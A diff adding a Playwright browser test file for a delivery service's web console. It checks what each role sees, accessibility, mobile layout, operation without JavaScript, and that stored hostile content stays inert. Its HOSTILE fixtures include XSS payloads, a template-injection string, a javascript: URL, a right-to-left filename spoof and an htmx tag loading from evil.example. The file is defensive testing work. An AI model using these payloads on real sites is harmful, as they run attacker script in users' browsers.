@@ -1,0 +1,226 @@
+"""The pages in a real browser: what each shows to whom, with the keyboard, without JavaScript, with hostile content."""
+
+from collections.abc import Iterator
+from dataclasses import replace
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.console.browser import Watched, watched
+from tests.console.play import EVENT_ID, PARTS
+from tests.console.stage import OTHER, STORE, Stage
+from tests.ledger.scene import settlement
+from tests.samples import an_event, an_integration
+from worker.domain.api_token import Role
+from worker.domain.event import event_ref
+from worker.domain.job import job_id
+from worker.ledger import Verdict
+from worker.ledger.lanes.claims import Opening
+
+ERP = f"/integrations/{PARTS[0].id}"
+JOB = job_id(event_ref(STORE, EVENT_ID), PARTS[0].id)
+AT = "?org=acme&store=store-7"
+#: Pages of everybody, and what each one shows.
+PAGES = {
+    "": "certificate expired",
+    "/integrations": "Storefront cache",
+    "/integrations?state=failing&sort=rate": "Loyalty",
+    "/integrations?q=wms.acme": "Warehouse",
+    ERP: "Next attempt in",
+    f"{ERP}?tab=attempts": "certificate expired",
+    f"{ERP}?tab=settings": "https://erp.acme.example/hooks/orders",
+    f"{ERP}/jobs/{JOB}/attempts/3": "All attempts of this delivery",
+    f"/integrations/{PARTS[5].id}": "The worker disabled it: answered 410 Gone.",
+    f"/events/{EVENT_ID}": "answered 500 Internal Server Error",
+    "/attempts": "Mailing list",
+    "/attempts?show=failed": "no answer",
+    "/search?q=no+such+thing": "Nothing has this id, name or address.",
+}
+#: Pages of admins.
+ADMIN_PAGES = {
+    "/integrations/new": "Events that it observes",
+    "/integrations/new?type=aws_sqs": "aws_secret_access_key",
+    "/integrations/new?type=stomp": "addresses",
+    f"{ERP}/edit": "Rate limit",
+    f"{ERP}/redeliver": "Count them",
+    "/tokens": "Create token",
+}
+#: Pages of operators.
+OPERATOR_PAGES = {
+    "/now": "every event and delivery is accounted for",
+    "/stores": "store-8 of acme",
+    "/rejected": "unknown observable key",
+    "/fleet": "Run the checks",
+    "/tokens": "all stores, in the console",
+}
+#: A page of each template, for the slow examination.
+EXAMINED = (
+    *("/integrations", ERP, f"{ERP}?tab=attempts", f"{ERP}?tab=settings", f"{ERP}/jobs/{JOB}/attempts/3"),
+    *(f"/events/{EVENT_ID}", "/attempts", "/search?q=x", f"{ERP}/edit", f"{ERP}/redeliver", "/no-such-page"),
+)
+
+
+@pytest.fixture
+def operator(stage: Stage, browser: Browser) -> Iterator[Watched]:
+    """An operator with the role admin, signed in."""
+    with watched(browser, stage.url) as made:
+        made.sign_in(stage.token(Role.ADMIN, None))
+        yield made
+
+
+@pytest.fixture
+def owner(stage: Stage, browser: Browser) -> Iterator[Watched]:
+    """An admin of the store, signed in."""
+    with watched(browser, stage.url) as made:
+        made.sign_in(stage.token(Role.ADMIN, STORE))
+        yield made
+
+
+def at_store(path: str) -> str:
+    """The address of a page for an operator who looks at the store."""
+    return path + (AT.replace("?", "&") if "?" in path else AT)
+
+
+def test_every_page_shows_a_reader_what_is_the_stores(stage: Stage, browser: Browser) -> None:
+    with watched(browser, stage.url) as reader:
+        reader.sign_in(stage.token(Role.READ, STORE))
+        for path, text in PAGES.items():
+            page = reader.open(path)
+            expect(page.locator("main")).to_contain_text(text)
+            assert page.get_by_role("button", name="Test delivery").count() == 0
+            assert "globex" not in page.content(), path
+        assert "ada@example.com" not in reader.open(f"/events/{EVENT_ID}").content()
+
+
+def test_an_admin_and_an_operator_have_more(owner: Watched, operator: Watched) -> None:
+    for path, text in (PAGES | ADMIN_PAGES).items():
+        expect(owner.open(path).locator("main")).to_contain_text(text)
+    expect(owner.open(f"/events/{EVENT_ID}").locator("main")).to_contain_text("ada@example.com")
+    for path, text in OPERATOR_PAGES.items():
+        expect(operator.open(path).locator("main")).to_contain_text(text)
+
+
+def test_axe_finds_nothing_on_any_page_in_either_theme(stage: Stage, browser: Browser) -> None:
+    # What axe does to a page is not the page's own, so its policy does not count here.
+    with watched(browser, stage.url, bypass_csp=True) as operator:
+        # A page must not refresh itself while axe looks at it.
+        operator.page.context.route("**/console.js*", lambda route: route.abort())
+        found = operator.axe("/sign-in")
+        operator.sign_in(stage.token(Role.ADMIN, None))
+        for path in (*map(at_store, EXAMINED), *OPERATOR_PAGES, "/enter"):
+            found += operator.axe(path)
+    assert found == []
+
+
+def test_on_a_phone_no_page_is_wider_than_the_screen(stage: Stage, browser: Browser) -> None:
+    with watched(browser, stage.url, viewport={"width": 360, "height": 740}) as phone:
+        phone.sign_in(stage.token(Role.ADMIN, STORE))
+        for path in PAGES | ADMIN_PAGES:
+            assert phone.open(path).evaluate("document.documentElement.scrollWidth") <= 360, path
+
+
+def test_the_slash_key_leads_to_the_search_and_the_search_to_what_it_names(owner: Watched) -> None:
+    for text, address in (
+        (EVENT_ID, f"/events/{EVENT_ID}"),
+        (PARTS[0].id, ERP),
+        (JOB, f"/events/{EVENT_ID}"),
+        ("wms.acme", "/search?q=wms.acme"),
+    ):
+        page = owner.open("/now")
+        page.keyboard.press("/")
+        page.keyboard.type(text)
+        page.keyboard.press("Enter")
+        page.wait_for_url(f"**/console{address}")
+    expect(owner.page.get_by_role("link", name="Warehouse")).to_be_visible()
+
+
+def test_an_operator_finds_an_id_of_any_store(operator: Watched) -> None:
+    page = operator.open(f"/search?q={PARTS[8].id}")
+    expect(page.get_by_role("heading", name="Fulfilment")).to_be_visible()
+
+
+def refreshed(page: Page) -> None:
+    """What the page's script does every few seconds."""
+    page.evaluate("htmx.trigger(document.querySelector('main[data-live]'), 'refresh')")
+
+
+def test_a_page_refreshes_itself_again_and_again(stage: Stage, operator: Watched) -> None:
+    integrations = stage.api.ledger.integrations
+    lane = f"/integrations/{PARTS[9].id}"
+    page = operator.open(lane)
+    for name in ("Cache one", "Cache two"):
+        (found,) = stage.do(integrations.get([PARTS[9].id]))
+        stage.do(integrations.put(replace(found, name=name), renewed=False))
+        refreshed(page)
+        expect(page.get_by_role("heading", name=name)).to_be_visible()
+
+
+def test_a_refresh_after_the_session_has_ended_leads_to_the_sign_in(stage: Stage, browser: Browser) -> None:
+    with watched(browser, stage.url) as visitor:
+        page = visitor.sign_in(stage.token(Role.READ, STORE))
+        page.context.clear_cookies()
+        refreshed(page)
+        page.wait_for_url("**/console/sign-in")
+
+
+def test_everything_works_without_javascript(stage: Stage, browser: Browser) -> None:
+    with watched(browser, stage.url, java_script_enabled=False) as visitor:
+        page = visitor.sign_in(stage.token(Role.ADMIN, OTHER))
+        page.get_by_role("link", name="ERP", exact=True).click()
+        page.get_by_role("button", name="Pause").click()
+        expect(page.locator("main")).to_contain_text("Its events are kept")
+        page.get_by_role("button", name="Resume").click()
+        page.get_by_role("link", name="Redeliver…").click()
+        page.get_by_label("Deliveries that").select_option("succeeded")
+        page.get_by_role("button", name="Count them").click()
+        expect(page.locator("main")).to_contain_text("Nothing has been sent yet")
+        page.get_by_role("button", name="Redeliver 1", exact=True).click()
+        expect(page.locator("main")).to_contain_text("deliveries are due again.")
+        page.get_by_role("button", name="Sign out").click()
+        expect(page.get_by_label("Token")).to_be_visible()
+
+
+MARKUP = "<script>alert('x')</script><img src=x onerror=alert(1)>"
+HOSTILE = (
+    MARKUP,
+    "\"'><svg onload=alert(1)>",
+    "{{ 7 * 7 }}{% raw %}",
+    "javascript:alert(1)",
+    "\x1b[31m\u202egnp.exe\u2066 \u200b",
+    "<main hx-get='https://evil.example/' hx-trigger='load'>",
+)
+
+
+def test_hostile_content_does_nothing(stage: Stage, browser: Browser) -> None:
+    # In a scope of its own, whose names are hostile too.
+    scope = replace(STORE, store_id="<b>store</b>")
+    lane, event_id = "e0000000-0000-4000-8000-00000000aaaa", "<script>alert(2)</script>/../?q=1#x"
+    stage.do(plant_hostile(stage, scope, lane, event_id))
+    with watched(browser, stage.url) as visitor:
+        visitor.sign_in(stage.new_token(Role.ADMIN, scope))
+        page = visitor.open(f"/integrations/{lane}")
+        page.get_by_role("link", name="<script>alert(2)</script>/../?q=1#x").first.click()
+        expect(page.locator("main")).to_contain_text("<script>alert('x')</script>")
+        expect(page.locator("pre")).to_contain_text(r"\u001b[31m\u202egnp.exe")
+        page.get_by_role("link", name="attempt 1").click()
+        expect(page.locator("pre")).to_contain_text(MARKUP)
+        for path in ("", "/integrations", "/attempts", f"/integrations/{lane}?tab=settings", f"/search?q={MARKUP}"):
+            expect(visitor.open(path).locator("main")).to_contain_text("<")
+            assert page.locator("main img, main script, main [onload], main main").count() == 0
+
+
+async def plant_hostile(stage: Stage, scope: object, lane: str, event_id: str) -> None:
+    """An integration, an event and an attempt of which everything is hostile, and the answer is 64 KiB long."""
+    ledger = stage.api.ledger
+    made = an_integration(lane, scope=scope, name="".join(HOSTILE), description=MARKUP, configuration={"url": MARKUP})
+    await ledger.integrations.put(made)
+    data = b'{"text": "<script>alert(\'x\')</script>\\u001b[31m\\u202egnp.exe"}'
+    event = an_event(event_id, made.scope, data)
+    await ledger.inbox.accept([event])
+    (stored,) = (await ledger.inbox.load([event.ref])).events
+    opened = await ledger.jobs.open([(stored, [Opening(job_id(event.ref, lane), lane)], True)], room=1)
+    why = "".join(HOSTILE)
+    settled = settlement(opened.claims[0], Verdict.RETRY, delay=240, detail=why, healthy=False, why=why)
+    body = (MARKUP + "\x1b]0;title\x07" + "x" * 65_536)[:65_536]
+    log = replace(settled.log, body=body, event_id=event_id, event_type="order.paid")
+    await ledger.jobs.settle([replace(settled, log=log)])
